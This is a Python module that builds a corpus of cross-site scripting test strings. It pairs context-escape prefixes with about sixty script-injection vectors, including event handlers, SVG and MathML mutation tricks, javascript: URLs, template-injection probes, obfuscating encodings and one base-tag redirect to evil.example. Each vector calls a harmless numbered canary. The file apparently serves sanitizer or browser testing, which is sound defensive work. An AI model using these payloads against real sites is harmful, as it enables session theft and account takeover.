"""Texts that would run as a program in a page that showed them carelessly: each of them says its own number.

A text is a way out of where it stands (an attribute, a comment, a script's string) and then something that
runs. In a page whose `hit(number)` is ours, a text that runs has told on itself.
"""

import re
from dataclasses import dataclass

OUT = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "\"'></select></svg></math>",
    '\\">',
    "*/;//`>",
)
"""Ways out of where a text may stand."""

RUNS = (
    "<script>hit({n})</script>",
    "<ScRiPt>hit({n})</sCrIpT >",
    "<script/x>hit({n})</script\t>",
    "<script src=data:text/javascript,hit({n})></script>",
    "<script type=module>hit({n})</script>",
    "<img src=x onerror=hit({n})>",
    "<img/src=x/onerror=hit({n})//",
    '<IMG """><SCRIPT>hit({n})</SCRIPT>">',
    "<img src=x oNeRrOr\n=\nhit({n})>",
    "<image src=x onerror=hit({n})>",
    "<svg onload=hit({n})>",
    "<svg/onload=hit({n})//",
    "<svg><script>hit({n})</script></svg>",
    "<svg><script>hit&#40;{n}&#41;</script></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:hit({n})><text y=20>press</text></a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit({n})&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=hit({n})>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit({n})>",
    "<details open ontoggle=hit({n})>open</details>",
    "<input autofocus onfocus=hit({n})>",
    "<video><source onerror=hit({n})></video>",
    "<audio src=x onerror=hit({n})></audio>",
    "<iframe srcdoc='<script>hit({n})</script>'></iframe>",
    "<iframe src=javascript:hit({n})></iframe>",
    "<object data=javascript:hit({n})></object>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart=hit({n})>move</b>",
    '<b style="background:url(javascript:hit({n}))">b</b>',
    "<a href=javascript:hit({n})>press</a>",
    '<a href="jav&#x09;ascript:hit({n})">press</a>',
    "<form action=javascript:hit({n})><button>press</button></form>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>hit({n})</script>'>",
    '" autofocus onfocus=hit({n}) x="',
    "' onmouseover=hit({n}) style=position:fixed;inset:0 x='",
    "`-hit({n})-`",
    '";hit({n});//',
    "';hit({n});//",
    "${{hit({n})}}",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "{{{{ {n} * 7 }}}}",
    "{{% for one in range({n}) %}}x{{% endfor %}}",
    "#{{{n} * 7}}",
    "<%= {n} * 7 %>",
    "javascript:hit({n})",
    "[press](javascript:hit({n}))",
    '![x](x"onerror="hit({n}))',
    "**<b onclick=hit({n})>bold</b>**",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "&#60;script&#62;hit({n})&#60;/script&#62;",
    "%3Cscript%3Ehit({n})%3C/script%3E",
    "\\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit({n})\\x3c/script\\x3e",
    "+ADw-script+AD4-hit({n})+ADw-/script+AD4-",
    "＜script＞hit({n})＜/script＞",
    "<\u200bscript>hit({n})</script>",
    "\ufeff<script>hit({n})</script>",
    "\u202e<script>hit({n})</script>",
    "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "e\u0301\ufffd\U000e0001<img src=x onerror=hit({n})>",
)
"""What runs, in some page or other; `{n}` is the number."""

MOST = len(OUT) * len(RUNS)
LAST = 10_000


@dataclass(frozen=True, slots=True)
class Attack:
    """A text and the number that it says when it runs."""

    number: int
    text: str


def attacks(count: int) -> tuple[Attack, ...]:
    """`count` different texts, at most `MOST`, with all that runs and all ways out equally often."""
    if count > MOST:
        raise ValueError(f"There are {MOST} of them.")
    return tuple(Attack(LAST + place, written(place)) for place in range(count))


def written(place: int) -> str:
    # Each round of what runs begins one way out further on, so that in the end each meets each.
    rounds, run = divmod(place, len(RUNS))
    return OUT[(run + rounds) % len(OUT)] + RUNS[run].format(n=LAST + place)


def plain(text: str) -> str:
    """`text` as two of them are compared: without the white space that pages and forms change."""
    return re.sub(r"[\s\x00-\x1f]+", "", text)
